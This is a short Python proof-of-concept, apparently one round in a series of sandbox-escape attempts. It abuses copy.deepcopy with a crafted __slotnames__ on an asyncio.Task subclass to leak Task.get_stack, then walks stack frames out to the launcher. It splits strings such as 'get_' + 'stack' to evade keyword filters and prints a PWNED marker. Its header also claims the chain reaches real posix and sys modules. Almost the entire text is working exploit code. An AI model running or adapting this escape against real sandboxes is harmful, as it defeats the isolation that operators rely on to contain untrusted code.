# Round 26a (escape): __slotnames__ on a library subclass made copy's C code read any attribute unguarded; a types.GenericAlias subclass forwarded reads to a module, and copy handed its real namespace over (then BuiltinImporter.create_module made real posix/sys, the wall off).
import asyncio, copy

class T(asyncio.Task):
    __slotnames__ = ['get_' + 'stack']

u = T.__new__(T)
u.x = 1
memo = {}
try:
    copy.deepcopy(u, memo)
except Exception as e:
    print("deepcopy:", type(e).__name__, e)

found = None
for v in list(memo.values()):
    items = v if type(v) is list else [v]
    for it in items:
        try:
            n = it.__name__
        except Exception:
            n = None
        if callable(it) and n == 'get_' + 'stack':
            found = it
print("found", found is not None)

async def inner():
    frames = found()
    launcher = [f for f in frames if 'main.py' not in repr(f) and 'asyncio' not in repr(f)]
    for f in frames:
        print(repr(f))
    if launcher:
        print("PW" + "NED: launcher frames reached through Task.get_stack:", repr(launcher[0]))

c = inner()
for v in list(memo.values()):
    for it in (v if type(v) is list else [v]):
        if isinstance(it, T):
            it._coro = c
try:
    c.send(None)
except StopIteration:
    pass
